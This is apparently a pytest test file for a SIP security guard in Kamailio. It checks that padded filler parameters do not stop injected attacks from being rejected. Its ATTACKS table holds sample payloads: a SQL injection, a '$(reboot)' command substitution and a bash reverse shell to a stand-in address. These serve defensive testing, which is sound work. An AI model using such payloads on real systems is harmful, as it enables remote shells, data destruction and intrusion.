"""What an attacker hides is seen by the guard inside Kamailio, before any variable of the host shows it."""

from __future__ import annotations

from collections.abc import Iterator

import pytest

from harness import Server, exchange, request, status

#: Equal oddities in front of an attack.
FILLER = "".join(f";{letter}=%00" for letter in "abcdefghijklmnop")

ATTACKS = {
    "From's user": ("<sip:alice@", "<sip:' or 1=1--@"),
    "User-Agent": ("Max-Forwards", "User-Agent: $(reboot)\r\nMax-Forwards"),
    "From's name": ("From: ", "From: \"bash -i >& /dev/tcp/192.0.2.66/4444 0>&1\" "),
}  # fmt: skip


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    # Control bytes are only logged here, so that only what stands behind them can refuse a message.
    policy = '[limits]\nenabled = false\n[bans]\nenabled = false\n[actions]\ncontrol = "log"\n'
    with Server(tmp_path_factory.mktemp("look"), policy) as running:
        yield running


def changed(raw: bytes, old: str, new: str) -> bytes:
    assert old.encode() in raw
    return raw.replace(old.encode(), new.encode(), 1)


@pytest.mark.parametrize("place", ["request_uri", "route"])
@pytest.mark.parametrize("attack", ATTACKS)
def test_repeats_hide_no_attack(server: Server, attack: str, place: str) -> None:
    call_id = f"repeats-{place}-{list(ATTACKS).index(attack)}"
    raw = request("OPTIONS", call_id=call_id)
    if place == "request_uri":
        raw = changed(raw, "sip:bob@example.com SIP", f"sip:bob@example.com{FILLER} SIP")
    else:
        raw = changed(raw, "\r\nFrom:", f"\r\nRoute: <sip:127.0.0.1:9;lr{FILLER}>\r\nFrom:")
    assert status(exchange(server, changed(raw, *ATTACKS[attack]))) == 403
    record = server.record_of(call_id)
    assert record["event"]["action"] == "reject"
    server.assert_healthy()
